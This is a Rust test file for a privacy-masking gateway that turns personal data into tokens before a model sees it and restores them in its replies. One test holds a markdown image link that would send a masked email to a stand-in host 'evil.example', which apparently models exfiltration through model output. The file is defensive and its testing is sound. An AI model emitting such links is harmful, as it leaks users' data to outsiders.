//! Tokens: what a model sees in place of values, and who gets the values back.

use std::sync::Arc;

use gatewright_masking::{Author, Detectors, Masker, Minter, PseudonymKey, Treatments, Vault, mask_findings};
use gatewright_model::{InfoType, Treatment};
use proptest::prelude::*;

const PROMPT: &str =
    "Tell alice@example.com and bob@example.com that card 4111 1111 1111 1111 of alice@example.com works.";

/// One call: its texts are masked with a vault of their own, and what comes back is restored from it.
struct Session {
    detectors: Detectors,
    vault: Arc<Vault>,
    key: PseudonymKey,
}

impl Session {
    fn new() -> Self {
        Self::with(Detectors::builtin())
    }

    fn with(detectors: Detectors) -> Self {
        Self { detectors, vault: Arc::default(), key: PseudonymKey::new(&[9; 32]) }
    }

    fn ask(&mut self, prompt: &str) -> String {
        self.read(Author::Caller, prompt)
    }

    fn read(&mut self, author: Author, text: &str) -> String {
        let treatments = Treatments::uniform(&self.detectors, Treatment::Token);
        let findings = self.detectors.find(text);
        let vault = Arc::get_mut(&mut self.vault).expect("nobody else has it");
        let mut minter = Minter { vault, key: &self.key };
        mask_findings(&self.detectors, text, &findings, &treatments, author, &mut minter).expect("nothing is blocked")
    }

    fn hear(&self, reveal: &[&str], pieces: &[&str]) -> String {
        let treatments = Treatments::choose(&self.detectors, |name| match reveal.contains(&name.as_str()) {
            true => Treatment::Keep,
            false => Treatment::Redact,
        });
        let (mut none, key) = (Vault::new(), &self.key);
        let mut minter = Minter { vault: &mut none, key };
        let mut masker = Masker::new(treatments.clone()).restoring(&self.vault, treatments);
        let (mut heard, mut consumed) = (String::new(), 0);
        let mut take = |piece: gatewright_masking::Piece<'_>| {
            heard.push_str(piece.text());
            consumed += piece.original_len();
        };
        for piece in pieces {
            masker.push(&self.detectors, &mut minter, piece, &mut take).expect("nothing is blocked");
        }
        masker.finish(&self.detectors, &mut minter, &mut take).expect("nothing is blocked");
        assert_eq!(consumed, pieces.iter().map(|piece| piece.len()).sum::<usize>());
        heard
    }
}

#[test]
fn tokens_are_numbered_by_first_appearance() {
    let masked = Session::new().ask(PROMPT);
    assert_eq!(
        masked,
        "Tell <EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_2> that card <CREDIT_CARD_1> of <EMAIL_ADDRESS_1> works."
    );
}

#[test]
fn a_token_comes_back_wherever_it_is_cut() {
    let mut session = Session::new();
    let echo = format!("Done: {} Bye", session.ask(PROMPT));
    let expected = format!("Done: {PROMPT} Bye");
    let all = ["EMAIL_ADDRESS", "CREDIT_CARD"];
    for cut in 0..=echo.len() {
        let (left, right) = echo.split_at(cut);
        assert_eq!(session.hear(&all, &[left, right]), expected, "cut at {cut}");
    }
    let single: Vec<&str> = (0..echo.len()).map(|at| &echo[at..at + 1]).collect();
    assert_eq!(session.hear(&all, &single), expected);
}

#[test]
fn only_what_may_be_revealed_comes_back() {
    let mut session = Session::new();
    let echo = session.ask(PROMPT);
    let heard = session.hear(&["EMAIL_ADDRESS"], &[&echo]);
    assert_eq!(heard, PROMPT.replace("4111 1111 1111 1111", "<CREDIT_CARD_1>"));
    assert_eq!(session.hear(&[], &[&echo]), echo);
}

#[test]
fn a_token_of_another_session_means_nothing() {
    let echo = Session::new().ask(PROMPT);
    assert_eq!(Session::new().hear(&["EMAIL_ADDRESS", "CREDIT_CARD"], &[&echo]), echo);
}

#[test]
fn other_spellings_of_a_token_come_back_as_well() {
    let mut session = Session::new();
    session.ask(PROMPT);
    for spelling in [
        "<email_address_1>",
        "<EMAIL ADDRESS 1>",
        "EMAIL_ADDRESS_1",
        "&lt;EMAIL_ADDRESS_1&gt;",
        "\\u003cEMAIL_ADDRESS_1\\u003e",
        "email_address_1",
        "< Email-Address-1 >",
        "\\<EMAIL\\_ADDRESS\\_1\\>",
        "EMAIL\\_ADDRESS\\_1",
        "＜ＥＭＡＩＬ＿ＡＤＤＲＥＳＳ＿１＞",
    ] {
        let said = format!("I wrote to {spelling}, as you asked.");
        assert_eq!(session.hear(&["EMAIL_ADDRESS"], &[&said]), "I wrote to alice@example.com, as you asked.");
    }
}

#[test]
fn nothing_is_restored_inside_a_url() {
    let mut session = Session::new();
    session.ask(PROMPT);
    let said = "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>&r=EMAIL_ADDRESS_1)";
    assert_eq!(session.hear(&["EMAIL_ADDRESS"], &[said]), said);
}

#[test]
fn what_only_looks_like_a_token_is_the_callers_own_text() {
    let mut session = Session::new();
    let prompt = "What is <EMAIL_ADDRESS_1>, and <email_address_2>? Ask alice@example.com.";
    let masked = session.ask(prompt);
    assert_eq!(masked, "What is <LITERAL_TEXT_1>, and <LITERAL_TEXT_2>? Ask <EMAIL_ADDRESS_1>.");
    assert_eq!(session.hear(&["EMAIL_ADDRESS"], &[&masked]), prompt);
}

#[test]
fn a_vault_and_a_key_print_nothing() {
    let mut session = Session::new();
    session.ask(PROMPT);
    assert_eq!(format!("{:?} {:?}", session.vault, session.key), "Vault(3 tokens) PseudonymKey(…)");
}

#[test]
fn pseudonyms_are_stable_and_keyed() {
    let (one, other) = (PseudonymKey::new(&[1; 32]), PseudonymKey::new(&[2; 32]));
    let email = gatewright_model::InfoType::new("EMAIL_ADDRESS").expect("a name");
    let pseudonym = one.pseudonym(&email, "Alice@Example.com");
    assert_eq!(pseudonym, one.pseudonym(&email, "alice＠example.com"));
    assert_ne!(pseudonym, other.pseudonym(&email, "alice@example.com"));
    assert!(pseudonym.starts_with(&format!("EMAIL_ADDRESS_{}_", one.id())), "{pseudonym}");
}

#[test]
fn what_only_looks_like_a_token_hides_no_value() {
    let mut session = Session::new();
    session.ask(PROMPT);
    for said in
        ["<CARD 4111 1111 1111 1111>", "<EMAIL_ADDRESS 4111 1111 1111 1111>", "<EMAIL_ADDRESS_9> 4111111111111111"]
    {
        let heard = session.hear(&["EMAIL_ADDRESS"], &[said]);
        assert!(heard.contains("[CREDIT_CARD]") && !heard.contains("1111"), "{said}: {heard}");
    }
}

#[test]
fn names_with_numbers_are_no_tokens() {
    let prompt = "SHA_256 and AES_128 for alice@example.com in COLUMN_1";
    assert_eq!(Session::new().ask(prompt), "SHA_256 and AES_128 for <EMAIL_ADDRESS_1> in COLUMN_1");
}

#[test]
fn an_earlier_answer_speaks_of_the_tokens_that_it_spoke_of() {
    let mut session = Session::new();
    session.ask("Write to alice@example.com; <PHONE_NUMBER_1> is how I call it.");
    let said = session.read(Author::Model, "I wrote to <EMAIL_ADDRESS_1>, not <EMAIL_ADDRESS_2>, of <PHONE_NUMBER_1>.");
    assert_eq!(said, "I wrote to <EMAIL_ADDRESS_1>, not <LITERAL_TEXT_2>, of <LITERAL_TEXT_1>.");
}

#[test]
fn names_that_are_spelled_alike_keep_their_values_apart() {
    let name = |name: &str| InfoType::new(name).expect("a name");
    let mut vault = Vault::new();
    let (one, other) = (vault.token(&name("A_B"), "one"), vault.token(&name("A__B"), "other"));
    assert_eq!(vault.restore(&one).map(|(_, value)| value), Some("one"));
    assert_eq!(vault.restore(&other).map(|(_, value)| value), Some("other"));
}

#[test]
fn a_restored_value_can_be_told_of() {
    let mut session = Session::new();
    let echo = session.ask(PROMPT);
    let alert = Treatments::uniform(&session.detectors, Treatment::Alert);
    let (mut none, key) = (Vault::new(), PseudonymKey::new(&[9; 32]));
    let mut minter = Minter { vault: &mut none, key: &key };
    let mut masker = Masker::new(alert.clone()).restoring(&session.vault, alert);
    let mut heard = String::new();
    let more = format!("{echo} +1 212 555 0142");
    masker.push(&session.detectors, &mut minter, &more, &mut |piece| heard.push_str(piece.text())).expect("it passes");
    masker.finish(&session.detectors, &mut minter, &mut |piece| heard.push_str(piece.text())).expect("it passes");
    assert_eq!(heard, format!("{PROMPT} +1 212 555 0142"));
    let told: Vec<_> = masker.alerted(&session.detectors).iter().map(|tally| tally.count).collect();
    assert_eq!(told.iter().sum::<u32>(), 5);
    assert!(masker.tally(&session.detectors).is_empty());
}

/// What a conversation is made of.
#[derive(Clone, Copy, Debug)]
enum Part {
    Prose(&'static str),
    Value(&'static str, &'static str),
    /// What the caller writes that looks like a token.
    Literal(&'static str),
}

const PARTS: &[Part] = &[
    Part::Prose("Please write to"),
    Part::Prose("and then, if (and only if) it fails, to"),
    Part::Prose("über 日本語 ✓"),
    Part::Prose("a < b, c > d; x_1 = y_2 \\ z"),
    Part::Prose("SHA_256 and"),
    Part::Prose("\n\n- **bold** `code`"),
    Part::Value("EMAIL_ADDRESS", "alice@example.com"),
    Part::Value("EMAIL_ADDRESS", "bob.smith@mail.example.org"),
    Part::Value("EMAIL_ADDRESS", "carol+x@example.net"),
    Part::Value("CREDIT_CARD", "4111 1111 1111 1111"),
    Part::Value("CREDIT_CARD", "5500-0055-5555-5559"),
    Part::Value("IBAN_CODE", "DE89 3704 0044 0532 0130 00"),
    Part::Value("US_SSN", "123-45-6789"),
    Part::Literal("<EMAIL_ADDRESS_1>"),
    Part::Literal("CREDIT_CARD_2"),
    Part::Literal("<literal text 1>"),
];

fn written(parts: &[Part]) -> String {
    let texts = parts.iter().map(|part| match part {
        Part::Prose(text) | Part::Value(_, text) | Part::Literal(text) => *text,
    });
    texts.collect::<Vec<_>>().join(" | ")
}

/// A token as a model might write it.
fn respelled(token: &str, way: usize) -> String {
    let name = token.trim_matches(['<', '>']);
    match way % 11 {
        0 => name.to_lowercase(),
        1 => format!("<{}>", name.to_lowercase()),
        2 => format!("<{}>", name.replace('_', " ")),
        3 => format!("< {name} >"),
        4 => format!("\\<{}\\>", name.replace('_', "\\_")),
        5 => format!("&lt;{name}&gt;"),
        6 => format!("<{}>", name.replace('_', "-")),
        7 => name.replace('_', "\\_"),
        8 => {
            let wide = |c: char| char::from_u32(c as u32 + 0xfee0).unwrap_or(c);
            format!("＜{}＞", name.chars().map(wide).collect::<String>())
        }
        9 => format!("<{}>", name.replace('_', "_\u{200b}")),
        _ => token.to_owned(),
    }
}

/// The model repeats what it was told, each token in a spelling of its own; beside it what the caller should then see.
fn repeated(masked: &str, parts: &[Part], reveal: &[&str], mut way: usize) -> (String, String) {
    let (mut said, mut seen) = (Vec::new(), Vec::new());
    for (told, part) in masked.split(" | ").zip(parts) {
        let (spelled, shown) = match part {
            Part::Prose(text) => ((*text).to_owned(), (*text).to_owned()),
            Part::Literal(text) => (respelled(told, way), (*text).to_owned()),
            Part::Value(info_type, value) => {
                let spelled = respelled(told, way);
                let shown = if reveal.contains(info_type) { (*value).to_owned() } else { spelled.clone() };
                (spelled, shown)
            }
        };
        way = way.wrapping_mul(31).wrapping_add(7);
        said.push(spelled);
        seen.push(shown);
    }
    (said.join(" | "), seen.join(" | "))
}

/// `PROPTEST_CASES` asks for more than the usual.
fn cases(usual: u32) -> u32 {
    std::env::var("PROPTEST_CASES").ok().and_then(|cases| cases.parse().ok()).unwrap_or(usual)
}

proptest! {
    #![proptest_config(ProptestConfig { cases: cases(48), failure_persistence: None, ..ProptestConfig::default() })]

    /// Every call of a conversation carries its history and is masked from nothing; the tokens are the same again, and
    /// what the model says of them comes back, however it spells and splits them.
    #[test]
    fn a_conversation_comes_back(
        turns in prop::collection::vec(prop::collection::vec(0..PARTS.len(), 1..7), 1..4),
        way in any::<usize>(),
        reveal in 0..4_usize,
    ) {
        let reveal = [&[][..], &["EMAIL_ADDRESS"], &["CREDIT_CARD", "IBAN_CODE"],
            &["EMAIL_ADDRESS", "CREDIT_CARD", "IBAN_CODE", "US_SSN"]][reveal];
        thread_local!(static KEPT: std::cell::RefCell<Option<Session>> = const { std::cell::RefCell::new(None) });
        let mut session = KEPT.with(|kept| kept.borrow_mut().take()).unwrap_or_else(Session::new);
        let mut history: Vec<(Vec<Part>, String)> = Vec::new();
        for turn in &turns {
            let parts: Vec<Part> = turn.iter().map(|part| PARTS[*part]).collect();
            // Another call: nothing is remembered but the history.
            session.vault = Arc::default();
            for (earlier, masked) in &history {
                prop_assert_eq!(&session.ask(&written(earlier)), masked, "a later turn numbers the values anew");
            }
            let masked = session.ask(&written(&parts));
            for part in &parts {
                if let Part::Value(_, value) = part {
                    prop_assert!(!masked.contains(value), "the model sees {value}");
                }
            }
            let (said, expected) = repeated(&masked, &parts, reveal, way);
            prop_assert_eq!(&session.hear(reveal, &[&said]), &expected, "whole: {}", said);
            for cut in said.char_indices().map(|(at, _)| at) {
                let (left, right) = said.split_at(cut);
                prop_assert_eq!(&session.hear(reveal, &[left, right]), &expected, "cut at {}: {}", cut, said);
            }
            let single: Vec<&str> = said.char_indices().map(|(at, c)| &said[at..at + c.len_utf8()]).collect();
            prop_assert_eq!(&session.hear(reveal, &single), &expected, "one by one: {}", said);
            // To another session it means nothing.
            let other = Session { detectors: session.detectors, vault: Arc::default(), key: PseudonymKey::new(&[9; 32]) };
            prop_assert_eq!(other.hear(reveal, &[&masked]), masked.as_str());
            session = other;
            history.push((parts, masked));
        }
        KEPT.with(|kept| *kept.borrow_mut() = Some(session));
    }
}
